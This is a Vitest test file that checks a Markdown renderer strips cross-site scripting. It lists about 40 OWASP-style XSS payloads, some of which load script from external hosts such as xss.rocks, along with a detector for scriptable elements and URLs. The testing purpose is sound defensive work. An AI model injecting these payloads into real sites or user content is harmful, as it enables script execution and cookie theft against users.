// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render';

const context = { readableProjects: new Set(['SHOP']), projectKey: 'SHOP' };
const render = (text: string) => renderMarkdown(text, context);

/** The document a rendering builds, to look at what would really run in the browser. */
function dom(html: string) {
  const root = document.createElement('div');
  root.innerHTML = html;
  return root;
}

/** Anything in the DOM that could run script: script-ish elements, on* handlers, script URLs. */
function scriptableParts(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    if (
      [
        'SCRIPT',
        'IFRAME',
        'OBJECT',
        'EMBED',
        'SVG',
        'MATH',
        'STYLE',
        'FORM',
        'BASE',
        'META',
        'LINK',
      ].includes(el.tagName.toUpperCase())
    )
      found.push(el.tagName);
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) found.push(`${el.tagName} ${attr.name}`);
      if (
        ['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc'].includes(attr.name) &&
        /^\s*(javascript|vbscript|data):/i.test(attr.value.replace(/[\s\u0000-\u001f]/g, ''))
      ) {
        found.push(`${el.tagName} ${attr.name}=${attr.value}`);
      }
      if (attr.name === 'style') found.push(`${el.tagName} style`);
    }
  }
  return found;
}

// From the OWASP XSS Filter Evasion Cheat Sheet, plus the Markdown-specific ways in (links and images).
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "<svg/onload=alert('XSS')>",
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<FORM><BUTTON FORMACTION="javascript:alert(1)">X</BUTTON></FORM>',
  '[click me](javascript:alert(1))',
  '[click me](JaVaScRiPt:alert(1))',
  '[click me](javascript&#58;alert(1))',
  '[click me]( javascript:alert(1) )',
  '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click me](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://example.com/x.png)',
  '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>',
  '* <a href="javascript:alert(1)">list</a>',
];

describe('Markdown rendering', () => {
  it('renders the usual Markdown', () => {
    const root = dom(render('# Title\n\n**bold** and _it_\n\n- one\n- two\n\n`code`'));
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(root.querySelector('code')?.textContent).toBe('code');
  });

  for (const vector of VECTORS) {
    it(`runs no script from ${vector.slice(0, 60)}`, () => {
      expect(scriptableParts(dom(render(vector)))).toEqual([]);
      expect(scriptableParts(dom(renderMarkdown(vector, context, { inline: true })))).toEqual([]);
    });
  }

  it('shows raw HTML as the text it is', () => {
    const root = dom(render('Hello <b>there</b> <script>alert(1)</script>'));
    expect(root.querySelector('b')).toBeNull();
    expect(root.textContent).toContain('<b>there</b>');
  });

  it('opens links in a new tab that cannot reach back, and drops javascript: links', () => {
    const root = dom(render('[docs](https://example.com/docs) and [bad](javascript:alert(1))'));
    const links = [...root.querySelectorAll('a')];
    expect(links[0]!.getAttribute('href')).toBe('https://example.com/docs');
    expect(links[0]!.getAttribute('target')).toBe('_blank');
    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links.filter((a) => a.getAttribute('href')?.includes('javascript'))).toEqual([]);
  });

  it('links story keys of readable projects and @mentions; a key of another project stays text', () => {
    const root = dom(render('See SHOP-42, SECRET-7 and ask @ana.lee (not bob@mail.com) about `SHOP-1`'));
    const links = [...root.querySelectorAll('a')].map((a) => [
      a.textContent,
      a.getAttribute('href'),
      a.getAttribute('target'),
    ]);
    expect(links).toContainEqual(['SHOP-42', '/projects/SHOP/stories/SHOP-42', null]);
    expect(links).toContainEqual(['@ana.lee', '/projects/SHOP/members', null]);
    expect(links.map(([text]) => text)).not.toContain('SECRET-7');
    expect(root.textContent).toContain('SECRET-7');
    expect(root.querySelector('code a')).toBeNull();
    expect(root.querySelector('a.mention')?.textContent).toBe('@ana.lee');
    expect(links.map(([text]) => text).filter((t) => t?.includes('mail'))).not.toContain('@mail.com');
  });

  it('keeps no class or style an author writes', () => {
    const root = dom(
      render('[x](https://example.com){.btn}\n\n<span class="btn" style="position:fixed">x</span>'),
    );
    expect(root.querySelector('[style]')).toBeNull();
    expect(root.querySelector('.btn')).toBeNull();
  });
});
